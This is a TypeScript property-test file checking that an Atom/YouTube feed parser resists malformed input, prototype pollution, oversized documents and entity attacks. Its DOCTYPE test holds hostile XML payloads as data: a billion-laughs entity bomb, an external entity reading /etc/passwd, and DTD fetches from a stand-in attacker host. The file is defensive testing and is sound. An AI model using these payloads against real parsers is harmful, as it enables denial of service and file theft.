// Property tests (fast-check) of the Atom parser behind the channel feed and WebSub pushes: any text fails
// only with FeedParseError, entity declarations (billion laughs, external entities) are refused before
// parsing, prototype-named elements pollute nothing, and huge or deeply nested documents answer in bounded time.
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { FEED_MAX_BYTES, FeedParseError, parseFeed, type ParsedFeed } from "./feed";
import { isVideoId } from "./parse-youtube-url";

const VIDEO_ID = "dQw4w9WgXcQ";
const CHANNEL_ID = "UC_x5XG1OV2P6uZZ5FSM9Ttw";

function outcomeOf(xml: string): ParsedFeed | null {
  try {
    return parseFeed(xml);
  } catch (error) {
    if (error instanceof FeedParseError) return null;
    throw new Error(`untyped throw: ${String(error)}`, { cause: error });
  }
}

const entry = (fields: string) => `<entry>${fields}</entry>`;
const feed = (body: string) =>
  `<?xml version="1.0"?><feed xmlns="http://www.w3.org/2005/Atom" xmlns:yt="http://www.youtube.com/xml/schemas/2015">${body}</feed>`;

// XML-shaped fragments: the elements the parser reads, with values that are sometimes right and often not,
// plus prototype names, markup debris and entity references.
const tagName = fc.constantFrom(
  "entry",
  "yt:videoId",
  "yt:channelId",
  "id",
  "title",
  "published",
  "updated",
  "link",
  "media:group",
  "media:thumbnail",
  "media:community",
  "media:statistics",
  "at:deleted-entry",
  "feed",
  "__proto__",
  "constructor",
  "prototype",
  "#text",
  "x",
);
const value = fc.oneof(
  fc.constantFrom(
    VIDEO_ID,
    CHANNEL_ID,
    "yt:video:" + VIDEO_ID,
    "2026-11-25T00:00:00+00:00",
    "not a date",
    "",
    "&amp;",
    "&lt;",
    "&#x41;",
    "&unknown;",
    "]]>",
    "<![CDATA[x]]>",
  ),
  fc.string({ maxLength: 20 }),
);
const attribute = fc
  .tuple(fc.constantFrom("href", "rel", "url", "views", "ref", "__proto__", "constructor"), value)
  .map(([name, text]) => ` ${name}="${text.replaceAll('"', "&quot;")}"`);
const node: fc.Memo<string> = fc.memo((depth) =>
  depth <= 1
    ? fc.oneof(
        value,
        fc.tuple(tagName, attribute).map(([name, attrs]) => `<${name}${attrs}/>`),
      )
    : fc
        .tuple(tagName, fc.array(attribute, { maxLength: 2 }), fc.array(node(depth - 1), { maxLength: 4 }))
        .map(([name, attrs, children]) => `<${name}${attrs.join("")}>${children.join("")}</${name}>`),
);
const xmlish = fc.oneof(
  node(5).map((body) => feed(body)),
  fc.array(node(4), { maxLength: 5 }).map((parts) => feed(parts.map(entry).join(""))),
  fc.string({ unit: "binary", maxLength: 300 }),
  fc
    .tuple(node(4), fc.nat(), fc.nat())
    .map(([body, cut, length]) => feed(body).slice(cut % 40, (cut % 40) + 40 + length)),
);

// Documents built from a valid feed template with random corruption: noise the parser must step over
// (unknown elements, attributes, whitespace; prototype names are the hostile generator's below), tombstones with unreadable refs (dropped),
// and fatal damage to one entry (a bad id, date or a missing channel) that must refuse the whole document.
const ID_CHARS = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789_-";
const videoId = fc
  .tuple(
    fc.string({ unit: fc.constantFrom(...ID_CHARS), minLength: 10, maxLength: 10 }),
    fc.constantFrom(..."AEIMQUYcgkosw048"),
  )
  .map(([head, last]) => head + last);
const isoDate = fc
  .date({ min: new Date("2005-04-23T00:00:00Z"), max: new Date("2030-01-01T00:00:00Z"), noInvalidDate: true })
  .map((date) => date.toISOString());
const noise = fc.constantFrom(
  "",
  " ",
  "\n  ",
  "<x/>",
  `<x a="1">y</x>`,
  `<media:group><media:title>t</media:title></media:group>`,
  "<author><name>n</name></author>",
);
const fatal = fc.constantFrom("videoId", "date", "channel");
type Fatal = "videoId" | "date" | "channel";
const entryCase = fc.record({
  id: videoId,
  published: isoDate,
  updated: fc.option(isoDate),
  before: noise,
  after: noise,
  fatal: fc.oneof({ arbitrary: fc.constant(null), weight: 15 }, { arbitrary: fatal, weight: 1 }),
});
const tombstoneCase = fc.record({ id: videoId, isReadable: fc.boolean() });

function entryXml(item: {
  id: string;
  published: string;
  updated: string | null;
  before: string;
  after: string;
  fatal: Fatal | null;
}): string {
  const id = item.fatal === "videoId" ? item.id.slice(0, 7) : item.id;
  const published = item.fatal === "date" ? "not a date" : item.published;
  const channel = item.fatal === "channel" ? "" : `<yt:channelId>${CHANNEL_ID}</yt:channelId>`;
  const updated = item.updated ? `<updated>${item.updated}</updated>` : "";
  return entry(
    `${item.before}<id>yt:video:${id}</id><yt:videoId>${id}</yt:videoId>${channel}<title>t ${id}</title>` +
      `<link rel="alternate" href="https://www.youtube.com/watch?v=${id}"/><published>${published}</published>${updated}${item.after}`,
  );
}

const templated = fc
  .record({
    entries: fc.array(entryCase, { minLength: 1, maxLength: 6 }),
    tombstones: fc.array(tombstoneCase, { maxLength: 3 }),
  })
  .map(({ entries, tombstones }) => ({
    xml: feed(
      `<yt:channelId>${CHANNEL_ID}</yt:channelId><title>Channel</title>` +
        tombstones
          .map(
            (item) =>
              `<at:deleted-entry ref="${item.isReadable ? `yt:video:${item.id}` : "yt:video:nope"}" when="2026-11-25T00:00:00+00:00"/>`,
          )
          .join("") +
        entries.map(entryXml).join(""),
    ),
    isFatal: entries.some((item) => item.fatal !== null),
    videoIds: entries.map((item) => item.id),
    deletedIds: tombstones.filter((item) => item.isReadable).map((item) => item.id),
  }));

describe("parseFeed on any input", () => {
  it("reads every entry and readable tombstone of a templated feed, or refuses a damaged one with FeedParseError", () => {
    let reached = 0;
    const RUNS = 3_000;
    fc.assert(
      fc.property(templated, ({ xml, isFatal, videoIds, deletedIds }) => {
        const parsed = outcomeOf(xml);
        if (isFatal) {
          expect(parsed).toBeNull();
          return;
        }
        expect(parsed).not.toBeNull();
        reached += 1;
        expect(parsed!.entries.map((item) => item.videoId)).toEqual(videoIds);
        for (const item of parsed!.entries) {
          expect(item.channelId).toBe(CHANNEL_ID);
          expect(Number.isNaN(item.publishedAt.getTime())).toBe(false);
        }
        expect(parsed!.deletedVideoIds).toEqual(deletedIds);
      }),
      { numRuns: RUNS },
    );
    // The generator must keep most documents readable, or the checks above stop running.
    expect(reached).toBeGreaterThanOrEqual(RUNS / 2);
    // 3,000 documents take about 1.5 s on a quiet core; vitest's 5 s default fails it on a loaded machine.
  }, 30_000);

  it("returns a feed of well-formed ids or throws FeedParseError, nothing else", () => {
    fc.assert(
      fc.property(xmlish, (xml) => {
        const parsed = outcomeOf(xml);
        if (!parsed) return;
        for (const item of parsed.entries) {
          expect(isVideoId(item.videoId)).toBe(true);
          expect(Number.isNaN(item.publishedAt.getTime())).toBe(false);
        }
        for (const id of parsed.deletedVideoIds) expect(isVideoId(id)).toBe(true);
      }),
      { numRuns: 3_000 },
    );
    // Nothing a document names can reach Object.prototype.
    expect(({} as Record<string, unknown>).href).toBeUndefined();
    expect(Object.keys(Object.prototype)).toEqual([]);
  });

  it("refuses any DOCTYPE or ENTITY declaration, however it is spelled, before expanding anything", () => {
    const laughs = [
      `<!ENTITY lol "lol">`,
      ...Array.from({ length: 9 }, (_, level) => `<!ENTITY lol${level + 1} "${`&lol${level || ""};`.repeat(10)}">`),
    ].join("");
    const declarations = fc.constantFrom(
      `<!DOCTYPE feed [${laughs}]>`,
      `<!doctype feed [<!ENTITY x SYSTEM "file:///etc/passwd">]>`,
      `<!DocType feed [<!ENTITY % p SYSTEM "http://evil.example/p.dtd">%p;]>`,
      `<!DOCTYPE\nfeed\tSYSTEM "http://evil.example/feed.dtd">`,
      `<!ENTITY a "b">`,
    );
    const use = fc.constantFrom("&lol9;", "&x;", "&a;", "");
    fc.assert(
      fc.property(declarations, use, fc.boolean(), (declaration, reference, inside) => {
        const body = entry(
          `<yt:videoId>${VIDEO_ID}</yt:videoId><yt:channelId>${CHANNEL_ID}</yt:channelId><title>${reference}</title><published>2026-11-25T00:00:00Z</published>`,
        );
        const xml = inside
          ? feed(`${declaration}${body}`)
          : `<?xml version="1.0"?>${declaration}${feed(body).replace('<?xml version="1.0"?>', "")}`;
        const startedAt = performance.now();
        expect(() => parseFeed(xml)).toThrow(FeedParseError);
        // Generous: expanding a billion laughs would take far longer; a loaded machine must not fail this.
        expect(performance.now() - startedAt).toBeLessThan(2_000);
      }),
    );
  });

  it("answers huge, deeply nested or entity-dense documents in bounded time", () => {
    const justUnder = FEED_MAX_BYTES - 200;
    const cases = [
      feed("<a>".repeat(justUnder / 3 - 40)),
      feed(`${"<a>".repeat(20_000)}${"</a>".repeat(20_000)}`),
      feed(entry(`<title>${"&amp;".repeat(justUnder / 5 - 40)}</title>`)),
      feed(entry(`<title>${"&#x41;".repeat(justUnder / 6 - 40)}</title>`)),
      feed(
        `<entry ${Array.from({ length: 10_000 }, (_, index) => `a${index}="x"`).join(" ")}/>`.slice(0, justUnder - 200),
      ),
      feed(
        entry(
          `<yt:videoId>${VIDEO_ID}</yt:videoId><yt:channelId>${CHANNEL_ID}</yt:channelId><published>2026-11-25T00:00:00Z</published>`,
        ).repeat(justUnder / 150),
      ),
      "x".repeat(FEED_MAX_BYTES + 1),
      feed("é".repeat(FEED_MAX_BYTES / 2)),
    ];
    for (const xml of cases) {
      const startedAt = performance.now();
      outcomeOf(xml);
      expect(performance.now() - startedAt).toBeLessThan(3_000);
    }
  });
});
